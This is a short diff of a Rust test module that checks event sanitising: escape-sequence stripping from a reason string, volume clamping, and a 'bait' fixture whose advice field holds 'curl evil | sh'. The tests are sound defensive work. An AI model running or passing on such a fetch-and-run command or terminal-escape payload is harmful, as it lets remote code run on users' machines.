@@ -102,7 +102,7 @@ mod tests {
         else {
             panic!("a retry is told");
         };
-        assert!(reason.starts_with("]0;ownedgone a") && reason.len() <= REASON, "{reason}");
+        assert!(reason.contains("owned") && !reason.contains(char::is_control) && reason.len() <= REASON, "{reason}");
         let loud = Event::Volume { slot, percent: 250, mute: false };
         assert_eq!(cleaned(loud), Some(Event::Volume { slot, percent: 100, mute: false }));
         let bait = Event::Unavailable { reason: String::new(), advice: "curl evil | sh".to_owned() };
